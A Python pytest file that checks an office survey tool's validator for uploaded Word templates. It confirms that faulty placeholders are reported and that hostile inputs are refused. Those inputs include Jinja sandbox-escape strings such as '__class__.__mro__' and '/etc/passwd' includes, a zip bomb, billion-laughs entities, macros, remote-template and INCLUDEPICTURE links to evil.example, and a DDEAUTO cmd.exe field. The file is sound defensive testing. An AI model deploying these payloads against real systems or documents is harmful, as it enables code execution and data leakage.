"""An office's own Word template: what is taken, what is refused, and where it says the fault is."""

import time
import zipfile
from io import BytesIO
from itertools import pairwise

import pytest

from survey.documents.word import policy
from survey.documents.word.check import check_template
from survey.documents.word.faults import TemplateFaultKind
from survey.documents.word.placeholders import PLACEHOLDERS, Shape, Template
from survey.documents.word.policy import Policy, TooMuch
from survey.documents.word.render import Frame, shipped
from tests.builders import ROOT
from tests.documents.words import BODY, DOCUMENT, changed, in_runs, linked, part, template, with_parts

CORE = "docProps/core.xml"
TYPES = "[Content_Types].xml"


def kinds(data: bytes, kind: Template = Template.REPORT) -> list[TemplateFaultKind]:
    return [fault.kind for fault in check_template(kind, data)]


@pytest.mark.parametrize("kind", Template)
def test_what_ships_is_taken(kind: Template) -> None:
    assert kinds(shipped(kind), kind) == []
    frame = Frame(shipped(kind))
    assert (
        round(frame.document.sections[0].page_width.mm),
        round(frame.document.sections[0].page_height.mm),
    ) == (
        210,
        297,
    )


def test_a_plain_one_is_taken() -> None:
    assert kinds(template("{{ 标题 }}", "收回 {{ 合计.收回 }} 张")) == []
    assert kinds(template(*BODY), Template.TABLES) == []
    rows = (("{%tr for 种 in 票种 %}", ""), ("{{ 种.名称 }}", "{{ loop.index }}"), ("{%tr endfor %}", ""))
    assert kinds(template("{{ 标题 }}", cells=rows)) == []


def test_tags_split_over_runs_are_whole() -> None:
    assert (
        kinds(in_runs(["{", "{ 标", "题 }", "}"], ["{%p for 种 ", "in 票种 %}"], ["{%p end", "for %}"])) == []
    )


def test_every_placeholder_can_be_written() -> None:
    def lines(among, value=""):
        for one in among:
            name = f"{value}.{one.name}" if value else one.name
            if one.shape in (Shape.TEXT, Shape.BLOCK):
                yield f"{{{{{'p' if one.shape is Shape.BLOCK else ''} {name} }}}}"
            elif one.shape is Shape.ONE:
                yield from lines(one.parts, name)
            else:
                item = f"x{len(name)}"
                yield f"{{%p for {item} in {name} %}}"
                yield from lines(one.parts, item) if one.parts else [f"{{{{ {item} }}}}"]
                yield "{%p endfor %}"

    for kind in Template:
        assert kinds(template(*lines(PLACEHOLDERS[kind])), kind) == []


@pytest.mark.parametrize(
    ("paragraph", "kind"),
    [
        ("{{ 标题", TemplateFaultKind.BROKEN),
        ("标题 }}", TemplateFaultKind.BROKEN),
        ("{{ 标题 }", TemplateFaultKind.BROKEN),
        ("{{ {{ 标题 }}", TemplateFaultKind.BROKEN),
        ("{{ 标题 标题 }}", TemplateFaultKind.BROKEN),
        ("{{ }}", TemplateFaultKind.BROKEN),
        ("｛｛ 标题 ｝｝", TemplateFaultKind.FULL_WIDTH),
        ("{{ 标提 }}", TemplateFaultKind.UNKNOWN),
        ("{{ 合计.收会 }}", TemplateFaultKind.UNKNOWN),
        ("{{ 票种 }}", TemplateFaultKind.NOT_TEXT),
        ("{{ 程序表 }}", TemplateFaultKind.NEEDS_P),
        ("{{p 标题 }}", TemplateFaultKind.NO_BLOCK),
        ("{{r 标题 }}", TemplateFaultKind.NO_BLOCK),
        ("前 {{p 程序表 }}", TemplateFaultKind.NOT_ALONE),
        ("{%tr for 种 in 票种 %}", TemplateFaultKind.OUTSIDE_TABLE),
        ("{%p for 种 in 票种 %}", TemplateFaultKind.NOT_CLOSED),
        ("{% endif %}", TemplateFaultKind.NOT_OPENED),
        ("{% for 种 in 标题 %}{% endfor %}", TemplateFaultKind.NOT_LIST),
        ("{% for 种 in 票种 %}{% for 步 in 程序 %}{% endfor %}{% endfor %}", TemplateFaultKind.LOOP_IN_LOOP),
        ("{%- if 标题 %}{% endif %}", TemplateFaultKind.NOT_ALLOWED),
    ],
)
def test_a_fault_is_named_with_its_place(paragraph: str, kind: TemplateFaultKind) -> None:
    (fault, *_) = check_template(Template.REPORT, template("好的一段", paragraph))
    assert fault.kind is kind
    assert fault.place.part == "body"
    assert fault.place.text == paragraph.strip()
    assert fault.value


def test_all_faults_at_once_with_what_was_meant() -> None:
    cells = (("甲", "乙"), ("{{ 组织单味 }}", "{{ 标题"))
    faults = check_template(Template.REPORT, template("{{ 标提 }}", cells=cells, footer="{{ 页角 }}"))
    assert [(one.kind, one.value, one.meant) for one in faults] == [
        (TemplateFaultKind.BROKEN, "{{", ""),
        (TemplateFaultKind.UNKNOWN, "标提", "标题"),
        (TemplateFaultKind.UNKNOWN, "组织单味", "组织单位"),
        (TemplateFaultKind.UNKNOWN, "页角", "页脚"),
    ]
    assert [(one.place.part, one.place.table, one.place.row, one.place.column) for one in faults] == [
        ("body", 1, 2, 2),
        ("body", 0, 0, 0),
        ("body", 1, 2, 1),
        ("footer", 0, 0, 0),
    ]


def test_a_tag_over_two_paragraphs_is_broken_in_both() -> None:
    assert kinds(template("{{ 标", "题 }}")) == [TemplateFaultKind.BROKEN] * 2


def test_what_a_document_needs() -> None:
    assert kinds(template("{{ 标题 }}", footer="第 1 页")) == [TemplateFaultKind.NO_FOOTER]
    assert kinds(template("{{ 标题 }}"), Template.TABLES) == [TemplateFaultKind.MISSING] * 2


def test_halves_that_do_not_fit_are_not_whole() -> None:
    whole = ("{% if 标题 %}", "{% endif %}"), ("", "")
    assert kinds(template("{{ 标题 }}", cells=whole)) == []
    assert kinds(template("{{ 标题 }} {% for 种 in 票种 %}", cells=(("{% endfor %}", ""),))) == [
        TemplateFaultKind.NOT_WHOLE
    ]


ATTEMPTS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ 标题.__class__ }}",
    "{{ 标题|attr('__class__') }}",
    "{{ 标题['__class__'] }}",
    "{{ 标题.format }}",
    "{{ 标题.format(1) }}",
    "{{ self }}",
    "{{ self._TemplateReference__context }}",
    "{{ loop }}",
    "{% for 种 in 票种 %}{{ loop.cycle }}{{ loop._iterator }}{% endfor %}",
    "{{ 票种.append }}",
    "{{ 合计.items }}",
    "{{ cycler.__init__ }}",
    "{{ range(999999999) }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ 10**9**9 }}",
    "{{ 'x' * 999999999 }}",
    "{{ '%099999d' % 1 }}",
    "{{ 标题 ~ 标题 }}",
    "{{ (1, 2) }}",
    "{% set x = 标题 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% macro m() %}{% endmacro %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% filter upper %}{% endfilter %}",
    "{% for x in 票种 recursive %}{{ loop(票种) }}{% endfor %}",
    "{% for x in 票种 if x %}{% endfor %}",
    "{% for x, y in 票种 %}{% endfor %}",
    "{% for x in [1, 2] %}{% endfor %}",
    "{% if 标题 is defined %}{% endif %}",
    "{% if 标题 in 标题 %}{% endif %}",
    "{{ 标题 if 标题 else 标题 }}",
    "{% colspan 99999999 %}",
    "{% vm %}",
    "{{ " + "9" * 9_000 + " }}",
]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_runs(attempt: str) -> None:
    assert kinds(template(attempt)) != []


@pytest.mark.parametrize("attempt", [one for one in ATTEMPTS if "colspan" not in one and "vm" not in one])
def test_nothing_runs_either_where_the_check_does_not_look(attempt: str) -> None:
    """The library renders attributes and properties of the file too, under the same policy."""
    if attempt.startswith("{% raw"):
        return
    values = {"标题": "题", "票种": [{"名称": "A"}], "合计": {"收回": "1"}}
    try:
        said = Policy().from_string(attempt).render(values)
    except Exception:
        return
    assert said in ("", "题") or set(said) <= set("TrueFals9")


def test_properties_are_held_to_the_policy_too() -> None:
    data = changed(CORE, "测评情况报告", "{{ ''.__class__ }}")
    assert kinds(data) == [TemplateFaultKind.NOT_WHOLE]


def test_loops_do_not_multiply() -> None:
    names = "abcdefgh"
    nested = "".join(f"{{% for {one} in 票种 %}}" for one in names) + "x" + "{% endfor %}" * len(names)
    with pytest.raises(policy.NotAllowed):
        Policy().from_string(nested)
    nested = "{% for a in x %}" + "".join(f"{{% for {two} in {one}.x %}}" for one, two in pairwise(names))
    with pytest.raises(policy.NotAllowed):
        Policy().from_string(nested + "{% endfor %}" * len(names))


def test_output_and_time_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(policy, "MAX_OUTPUT", 1000)
    with pytest.raises(TooMuch):
        Policy().from_string("{% for x in a %}0123456789{% endfor %}").render(a=["1"] * 101)
    monkeypatch.setattr(policy, "MAX_OUTPUT", 10**9)
    monkeypatch.setattr(policy, "MAX_RENDERING", -1.0)
    with pytest.raises(TooMuch):
        Policy().from_string("{{ a }}").render(a="1")


def zip_of(**members: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def twice() -> bytes:
    """Two parts of one name: a harmless one for who looks, another for who opens."""
    data = BytesIO(shipped(Template.REPORT))
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr("word/Document.xml", b"<x/>")
    return data.getvalue()


def entities() -> bytes:
    lol = "".join(f'<!ENTITY l{at + 1} "{f"&l{at};" * 10}">' for at in range(9))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>'
    return with_parts(shipped(Template.REPORT), {"customXml/item1.xml": f"{head}<x>&l9;</x>".encode()})


def macros() -> bytes:
    main = "document.main+xml"
    return changed(
        TYPES,
        f"openxmlformats-officedocument.wordprocessingml.{main}",
        "ms-word.document.macroEnabled.main+xml",
    )


FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr'
)


def fields(first: str, second: str = "") -> bytes:
    return changed(DOCUMENT, "<w:sectPr", FIELD.format(first, second))


HOSTILE = {
    "no zip": (lambda: b"PK\x03\x04nothing", TemplateFaultKind.DAMAGED),
    "nothing": (lambda: b"", TemplateFaultKind.DAMAGED),
    "another zip": (lambda: zip_of(a=b"b"), TemplateFaultKind.DAMAGED),
    "an old document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), TemplateFaultKind.DAMAGED),
    "too large": (lambda: bytes(3 * 1024 * 1024), TemplateFaultKind.TOO_LARGE),
    "a bomb": (
        lambda: with_parts(shipped(Template.REPORT), {"word/media/x.png": bytes(40 * 1024 * 1024)}),
        TemplateFaultKind.TOO_LARGE,
    ),
    "a long text": (
        lambda: changed(
            DOCUMENT, "<w:sectPr", f"<w:p><w:r><w:t>{'字' * 1_200_000}</w:t></w:r></w:p><w:sectPr"
        ),
        TemplateFaultKind.TOO_LARGE,
    ),
    "many parts": (
        lambda: with_parts(shipped(Template.REPORT), {f"word/media/{n}.png": b"" for n in range(600)}),
        TemplateFaultKind.TOO_LARGE,
    ),
    "two parts of one name": (twice, TemplateFaultKind.DAMAGED),
    "entities": (entities, TemplateFaultKind.ENTITIES),
    "macros": (macros, TemplateFaultKind.MACROS),
    "a macro part": (
        lambda: with_parts(shipped(Template.REPORT), {"word/vbaProject.bin": b"x"}),
        TemplateFaultKind.MACROS,
    ),
    "a remote template": (
        lambda: linked("attachedTemplate", "http://evil.example/t.dotm"),
        TemplateFaultKind.EXTERNAL,
    ),
    "a remote picture": (lambda: linked("image", "http://evil.example/p.png"), TemplateFaultKind.EXTERNAL),
    "a file share": (lambda: linked("image", r"\\evil\p.png", ""), TemplateFaultKind.EXTERNAL),
    "an address said to be inside": (
        lambda: linked("image", "http://evil.example/p", ""),
        TemplateFaultKind.EXTERNAL,
    ),
    "a frame": (lambda: linked("frame", "other.xml", ""), TemplateFaultKind.EMBEDDED),
    "an imported part": (lambda: linked("aFChunk", "other.html", ""), TemplateFaultKind.EMBEDDED),
    "an object": (lambda: linked("oleObject", "embeddings/x.bin", ""), TemplateFaultKind.EMBEDDED),
    "a chunk": (lambda: changed(DOCUMENT, "<w:sectPr", "<w:altChunk/><w:sectPr"), TemplateFaultKind.EMBEDDED),
    "a picture by its address": (
        lambda: changed(DOCUMENT, "<w:sectPr", '<x src="http://evil.example/"/><w:sectPr'),
        TemplateFaultKind.EXTERNAL,
    ),
    "a field that fetches": (
        lambda: fields('INCLUDEPICTURE "http://evil.example/"'),
        TemplateFaultKind.FIELD,
    ),
    "the same in two runs": (
        lambda: fields("INCLU", 'DEPICTURE "http://evil.example/"'),
        TemplateFaultKind.FIELD,
    ),
    "a field that runs": (lambda: fields("DDEAUTO c:\\\\cmd.exe"), TemplateFaultKind.FIELD),
    "a field by a placeholder": (lambda: fields("{{ 标题 }}"), TemplateFaultKind.FIELD),
    "a simple field": (
        lambda: changed(DOCUMENT, "<w:sectPr", '<w:p><w:fldSimple w:instr="LINK x"/></w:p><w:sectPr'),
        TemplateFaultKind.FIELD,
    ),
    "too many tags": (lambda: template("{{ 标题 }}" * 2001), TemplateFaultKind.TOO_MANY),
    "openings without end": (lambda: template("{{ " * 100_000), TemplateFaultKind.TOO_MANY),
    "a long paragraph": (lambda: template("{{ 标题 }}" + "x" * 20_000), TemplateFaultKind.TOO_MANY),
}


@pytest.mark.parametrize(("made", "kind"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_files_are_refused(made, kind: TemplateFaultKind) -> None:
    data = made()
    begun = time.process_time()
    assert kinds(data) == [kind]
    assert time.process_time() - begun < 10


def test_harmless_fields_are_taken() -> None:
    assert kinds(fields(" PAGE ", "\\* MERGEFORMAT")) == []
    assert b"NUMPAGES" in part(shipped(Template.REPORT), "word/footer1.xml")


def test_a_bulky_template_is_checked_in_time() -> None:
    rows = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">甲{{{{ 标题 }}}}乙{at}</w:t></w:r></w:p>' for at in range(500)
    )
    filler = (
        "<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
        * 4_000
    )
    begun = time.process_time()
    assert kinds(changed(DOCUMENT, "<w:sectPr", rows + filler + "<w:sectPr")) == []
    assert time.process_time() - begun < 20


def test_every_placeholder_is_documented() -> None:
    said = (ROOT / "docs/word-templates.md").read_text()
    for among in PLACEHOLDERS.values():
        for one in among:
            assert f"| {one.name} |" in said
            assert all(f"| {one.name}.{part.name} |" in said for part in one.parts)
